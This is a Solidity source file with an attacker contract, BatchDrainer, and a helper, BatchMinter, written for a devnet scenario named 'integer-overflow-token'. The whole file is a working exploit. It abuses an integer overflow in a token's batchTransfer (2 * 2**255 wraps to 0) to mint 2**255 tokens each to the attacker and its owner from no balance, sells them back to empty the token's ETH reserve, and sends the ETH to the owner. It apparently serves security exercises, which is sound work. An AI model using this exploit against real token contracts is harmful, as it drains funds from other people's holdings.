// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IBatchToken {
    function RATE() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function batchTransfer(address[] calldata receivers, uint256 value) external returns (bool);
    function sell(uint256 tokens) external;
}

/// @notice Throwaway minter: its constructor sends 2**255 BATCH to each of two receivers through
///         the wrapping `batchTransfer` (2 * 2**255 wraps to 0, so it needs no balance at all).
contract BatchMinter {
    constructor(IBatchToken token, address[] memory receivers) {
        token.batchTransfer(receivers, 2 ** 255);
    }
}

/// @title BatchDrainer
/// @notice Attacker contract for the devnet scenario "integer-overflow-token": deploys a
///         BatchMinter that credits the drainer and its owner 2**255 BatchToken each, sells back
///         as much as the token's ETH reserve pays for, and forwards the ETH to its owner.
contract BatchDrainer {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function attack(IBatchToken token) external {
        require(msg.sender == owner, "BatchDrainer: not owner");
        address[] memory receivers = new address[](2);
        receivers[0] = address(this);
        receivers[1] = owner;
        new BatchMinter(token, receivers);
        token.sell(address(token).balance * token.RATE());
        (bool ok, ) = owner.call{value: address(this).balance}("");
        require(ok, "BatchDrainer: payout failed");
    }

    receive() external payable {}
}
